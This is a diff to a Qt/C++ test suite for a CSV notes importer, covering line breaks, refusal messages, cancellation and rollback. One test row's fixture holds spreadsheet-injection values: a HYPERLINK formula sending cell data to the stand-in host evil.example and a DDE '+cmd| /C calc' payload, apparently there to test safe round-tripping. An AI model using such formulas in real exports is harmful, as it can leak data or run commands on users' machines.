@@ -7,6 +7,7 @@
 #include "exchange/NotesImport.h"
 #include "exchange/TableExport.h"
 
+#include <QBuffer>
 #include <QTest>
 
 using namespace exchange;
@@ -25,10 +26,14 @@ class TestImport : public QObject, private ExchangeFixture {
         return out.join(QLatin1Char('|'));
     }
 
-    static int import(const QString &table, const QByteArray &csv)
+    static int import(const QString &table, const QByteArray &csv, Progress *progress = nullptr)
     {
-        const CsvTable t = Csv::parse(csv);
-        return importNotes(Database::connectionString, table, t, defaultPlan(t.header, db::Catalog(Database::connectionString).columns(table)));
+        QBuffer buffer;
+        buffer.setData(csv);
+        buffer.open(QIODevice::ReadOnly);
+        const QStringList header = Csv::parse(csv).header;
+        return importNotes(Database::connectionString, table, &buffer, Encoding::Utf8,
+                           defaultPlan(header, db::Catalog(Database::connectionString).columns(table)), progress);
     }
 
 private slots:
@@ -58,9 +63,10 @@ private slots:
     {
         db::Catalog(Database::connectionString).appendColumn("biji1", column("◆关键词2", db::ColumnType::Text, 20, "百度*/谷歌*"));
         m_db->exec("INSERT INTO biji1([时间],[备注],[百度收入量],[谷歌收入量],[雅虎收入量],[PR],[◆关键词1],[◆关键词2]) VALUES"
-                   "('2011-10-03','逗号, 引号\" 和\r\n换行','收入160/反向35','','无','3','百度8/谷歌6','百度1/谷歌2'),"
+                   "('2011-10-03','逗号, 引号\" 和\n换行','收入160/反向35','','无','3','百度8/谷歌6','百度1/谷歌2'),"
                    "('2011-09-05',NULL,'收入155/反向31','0','-3.5','007',' 空格 ','x'),"
-                   "('2011-09-05','同一天','1','2','3','4','5','6')");
+                   "('2011-09-05','=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")','+cmd|'' /C calc''!A0','@SUM(1+1)',"
+                   "'''=1','-3','''-x','\t')");
         const QString out = m_db->dir() + "/notes.csv";
         db::Connection conn;
         conn.open(Database::connectionString);
@@ -68,42 +74,56 @@ private slots:
         conn.close();
 
         makeNotesTable("biji2");
-        QCOMPARE(importNotes(Database::connectionString, "biji2", Csv::readFile(out),
-                             defaultPlan(Csv::readFile(out).header, db::Catalog(Database::connectionString).columns("biji2"))),
+        const QStringList header = Csv::inspect(out, 0).header;
+        QCOMPARE(importFile(Database::connectionString, "biji2", out, Encoding::Utf8,
+                            defaultPlan(header, db::Catalog(Database::connectionString).columns("biji2"))),
                  3);
         QCOMPARE(columnNames("biji2"), columnNames("biji1"));
         const QString columns = "[时间],[备注],[百度收入量],[谷歌收入量],[雅虎收入量],[PR],[◆关键词1],[◆关键词2]";
         QCOMPARE(rows("SELECT " + columns + " FROM biji2 ORDER BY AutoId"),
                  rows("SELECT " + columns + " FROM biji1 ORDER BY [时间], AutoId"));
-        QVERIFY(rows("SELECT [备注] FROM biji2").contains("逗号, 引号\" 和\r\n换行"));
+        QVERIFY(rows("SELECT [备注] FROM biji2").contains("逗号, 引号\" 和\n换行"));
+        // Line breaks arrive as LF from a file with CR LF or LF alike.
+        QCOMPARE(import("biji2", "时间,备注\n2012-1-1,\"一\r\n二\n三\"\n"), 1);
+        QCOMPARE(m_db->scalar("SELECT [备注] FROM biji2 WHERE [时间]='2012-01-01'").toString(), QStringLiteral("一\n二\n三"));
     }
 
     void refusals_data()
     {
         QTest::addColumn<QByteArray>("csv");
         QTest::addColumn<QString>("message");
+        QTest::addColumn<bool>("cancel"); // the user pressed 取消
+        QByteArray wide = "时间";
+        for (int c = 0; c < 2000; ++c)
+            wide += ",c" + QByteArray::number(c);
+        QTest::newRow("more columns than a table holds") << wide + "\n" << "合计超过了数据库一个表最多" << false;
+        QTest::newRow("NUL in a value") << QByteArray("时间,备注\n2011-9-5,a\0b\n", 27) << "第 2 行“备注”列：文字含有空字符" << false;
+        QTest::newRow("cancelled") << QByteArray("时间,新项目\n2011-9-5,a\n") << "导入已取消，没有导入任何记录" << true;
         QTest::newRow("unreadable date") << QByteArray("时间,PR,新项目\n2011-9-5,1,a\n2011-13-45,2,b\n")
-                                         << "第 3 行“时间”列：无法识别的日期“2011-13-45”";
-        QTest::newRow("empty date") << QByteArray("时间,PR\n2011-9-5,1\n,2\n") << "第 3 行“时间”列";
+                                         << "第 3 行“时间”列：无法识别的日期“2011-13-45”" << false;
+        QTest::newRow("empty date") << QByteArray("时间,PR\n2011-9-5,1\n,2\n") << "第 3 行“时间”列" << false;
         QTest::newRow("over-long value") << QByteArray("时间,PR\n2011-9-5,12345678901\n")
-                                         << "第 2 行“PR”列：内容有 11 个字，超过了该字段的长度 10";
+                                         << "第 2 行“PR”列：内容有 11 个字，超过了该字段的长度 10" << false;
         QTest::newRow("over-long in a multi-line file")
             << QByteArray("时间,备注,PR\n2011-9-5,\"一\n二\",1\n2011-9-6,x,\"" + QByteArray(11, '9') + "\"\n")
-            << "第 4 行“PR”列";
+            << "第 4 行“PR”列" << false;
         QTest::newRow("new column value past 255")
-            << QByteArray("时间,新项目\n2011-9-5," + QByteArray(256, 'x') + "\n") << "第 2 行“新项目”列";
-        QTest::newRow("no date column") << QByteArray("备注,PR\nx,1\n") << "没有对应到“时间”的列";
+            << QByteArray("时间,新项目\n2011-9-5," + QByteArray(256, 'x') + "\n") << "第 2 行“新项目”列" << false;
+        QTest::newRow("no date column") << QByteArray("备注,PR\nx,1\n") << "没有对应到“时间”的列" << false;
     }
 
     void refusals()
     {
         QFETCH(QByteArray, csv);
         QFETCH(QString, message);
+        QFETCH(bool, cancel);
         m_db->exec("INSERT INTO biji1([时间],[PR]) VALUES('2011-01-01','9')");
         const QString before = rows("SELECT * FROM biji1");
         const QStringList columnsBefore = columnNames("biji1");
+        Progress progress;
+        progress.cancel = cancel;
         try {
-            import("biji1", csv);
+            import("biji1", csv, &progress);
             QFAIL("the import went through");
         } catch (const ExchangeError &e) {
             QVERIFY2(e.message().contains(message), qPrintable(e.message()));
@@ -114,18 +134,17 @@ private slots:
 
     void engineRefusalRollsBack()
     {
-        // A column that must be given and has no default: the engine refuses
-        // the second row after the first was sent and the new column made.
+        // A value the engine refuses (a unique index): the second row is
+        // refused after the first was sent and the new column made.
         db::Catalog(Database::connectionString)
             .createTable("biji3", {column("AutoId", db::ColumnType::LongInteger),
                                    column("时间", db::ColumnType::DateTime), column("必填", db::ColumnType::Text, 5)});
-        m_db->exec("CREATE TRIGGER refuse BEFORE INSERT ON biji3 WHEN NEW.[必填] = 'no' BEGIN SELECT RAISE(ABORT, 'refused'); END");
+        m_db->exec("CREATE UNIQUE INDEX once ON biji3([必填])");
         try {
-            import("biji3", "时间,必填,新项目\n2011-9-5,yes,a\n2011-9-6,no,b\n");
+            import("biji3", "时间,必填,新项目\n2011-9-5,yes,a\n2011-9-6,yes,b\n");
             QFAIL("the import went through");
         } catch (const ExchangeError &e) {
-            QVERIFY2(e.message().startsWith("第 3 行：") && e.message().contains("refused")
-                         && e.message().contains("没有导入任何记录"),
+            QVERIFY2(e.message().startsWith("第 3 行：数据库拒绝写入") && e.message().contains("没有导入任何记录"),
                      qPrintable(e.message()));
         }
         QCOMPARE(m_db->scalar("SELECT count(*) FROM biji3").toInt(), 0);
@@ -152,12 +171,14 @@ private slots:
         QFETCH(QVector<int>, actions);
         QFETCH(QStringList, columns);
         QFETCH(QString, message);
-        const CsvTable csv = Csv::parse("a,b\n2011-9-5,1\n");
+        QBuffer csv;
+        csv.setData("a,b\n2011-9-5,1\n");
+        csv.open(QIODevice::ReadOnly);
         ImportPlan p;
         for (int i = 0; i < actions.size(); ++i)
             p.targets << ImportTarget{ImportTarget::Action(actions[i]), columns[i]};
         try {
-            importNotes(Database::connectionString, "biji1", csv, p);
+            importNotes(Database::connectionString, "biji1", &csv, Encoding::Utf8, p);
             QFAIL("the import went through");
         } catch (const ExchangeError &e) {
             QVERIFY2(e.message().contains(message), qPrintable(e.message()));
